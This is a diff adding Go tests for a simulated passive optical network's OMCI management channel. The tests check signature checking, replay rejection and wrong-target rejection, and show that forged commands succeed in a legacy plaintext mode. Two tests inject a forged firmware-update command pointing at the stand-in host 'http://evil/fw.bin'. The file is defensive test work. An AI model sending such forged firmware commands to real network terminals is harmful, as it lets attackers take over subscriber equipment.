@@ -1,0 +1,127 @@
+package pon
+
+import (
+	"errors"
+	"testing"
+)
+
+func TestOMCISignedCommandExecutes(t *testing.T) {
+	olt, ca := newOLT(t, ModeAuthenticated)
+	onu := issuedONU(t, ca, "onu-1")
+	if err := olt.Activate(onu); err != nil {
+		t.Fatal(err)
+	}
+	if err := olt.SendOMCI("onu-1", OMCIProvisionService, "vlan=200"); err != nil {
+		t.Fatalf("SendOMCI: %v", err)
+	}
+	log := onu.OMCILog()
+	if len(log.Executed) != 1 || log.Executed[0].Action != OMCIProvisionService {
+		t.Fatalf("log = %+v", log)
+	}
+}
+
+func TestOMCIKeyRotationKeepsDataPath(t *testing.T) {
+	olt, ca := newOLT(t, ModeAuthenticated)
+	onu := issuedONU(t, ca, "onu-1")
+	if err := olt.Activate(onu); err != nil {
+		t.Fatal(err)
+	}
+	if err := olt.SendDownstream(onu.Port(), []byte("before")); err != nil {
+		t.Fatal(err)
+	}
+	if err := olt.SendOMCI("onu-1", OMCIRotateKey, ""); err != nil {
+		t.Fatalf("rotate via OMCI: %v", err)
+	}
+	// Data path still works on the rotated key.
+	if err := olt.SendDownstream(onu.Port(), []byte("after")); err != nil {
+		t.Fatalf("downstream after OMCI rotation: %v", err)
+	}
+	if got := len(onu.Received()); got != 2 {
+		t.Fatalf("received = %d, want 2", got)
+	}
+}
+
+func TestForgedOMCIRejectedWhenAuthenticated(t *testing.T) {
+	olt, ca := newOLT(t, ModeAuthenticated)
+	onu := issuedONU(t, ca, "onu-1")
+	if err := olt.Activate(onu); err != nil {
+		t.Fatal(err)
+	}
+	// Attacker injects an unsigned firmware-update command.
+	err := olt.InjectOMCI(OMCIMessage{Action: OMCIFirmwareUpdate, Serial: "onu-1", Arg: "http://evil/fw.bin", Seq: 99})
+	if !errors.Is(err, ErrOMCIUnsigned) {
+		t.Fatalf("err = %v, want ErrOMCIUnsigned", err)
+	}
+	log := onu.OMCILog()
+	if len(log.Executed) != 0 || log.Rejected != 1 {
+		t.Fatalf("log = %+v", log)
+	}
+}
+
+func TestForgedOMCIExecutesInPlaintextMode(t *testing.T) {
+	// The legacy posture: unsigned management commands are accepted — the
+	// T2 firmware-manipulation vector on the management channel.
+	olt, _ := newOLT(t, ModePlaintext)
+	onu := NewONU("onu-1", nil)
+	if err := olt.Activate(onu); err != nil {
+		t.Fatal(err)
+	}
+	err := olt.InjectOMCI(OMCIMessage{Action: OMCIFirmwareUpdate, Serial: "onu-1", Arg: "http://evil/fw.bin", Seq: 1})
+	if err != nil {
+		t.Fatalf("plaintext injection rejected: %v", err)
+	}
+	if got := len(onu.OMCILog().Executed); got != 1 {
+		t.Fatalf("executed = %d, want 1 (attack succeeds in legacy mode)", got)
+	}
+}
+
+func TestOMCIReplayRejected(t *testing.T) {
+	olt, ca := newOLT(t, ModeAuthenticated)
+	onu := issuedONU(t, ca, "onu-1")
+	if err := olt.Activate(onu); err != nil {
+		t.Fatal(err)
+	}
+	if err := olt.SendOMCI("onu-1", OMCIReboot, ""); err != nil {
+		t.Fatal(err)
+	}
+	// Replay the captured signed message verbatim.
+	msg := onu.OMCILog().Executed[0]
+	if err := olt.InjectOMCI(msg); !errors.Is(err, ErrOMCIReplayed) {
+		t.Fatalf("err = %v, want ErrOMCIReplayed", err)
+	}
+}
+
+func TestOMCIWrongTarget(t *testing.T) {
+	olt, ca := newOLT(t, ModeAuthenticated)
+	onu1 := issuedONU(t, ca, "onu-1")
+	onu2 := issuedONU(t, ca, "onu-2")
+	if err := olt.Activate(onu1); err != nil {
+		t.Fatal(err)
+	}
+	if err := olt.Activate(onu2); err != nil {
+		t.Fatal(err)
+	}
+	if err := olt.SendOMCI("onu-1", OMCIReboot, ""); err != nil {
+		t.Fatal(err)
+	}
+	// Cross-deliver onu-1's signed message to onu-2.
+	msg := onu1.OMCILog().Executed[0]
+	msg2 := msg
+	msg2.Serial = "onu-2" // re-addressing invalidates the signature
+	if err := olt.InjectOMCI(msg2); !errors.Is(err, ErrOMCIUnsigned) {
+		t.Fatalf("err = %v, want ErrOMCIUnsigned", err)
+	}
+}
+
+func TestOMCIUnknownONU(t *testing.T) {
+	olt, _ := newOLT(t, ModeAuthenticated)
+	if err := olt.SendOMCI("ghost", OMCIReboot, ""); !errors.Is(err, ErrNotActivated) {
+		t.Fatalf("err = %v, want ErrNotActivated", err)
+	}
+}
+
+func TestOMCIActionString(t *testing.T) {
+	if OMCIRotateKey.String() != "rotate-key" || OMCIAction(9).String() != "omci(9)" {
+		t.Fatal("OMCIAction.String mismatch")
+	}
+}
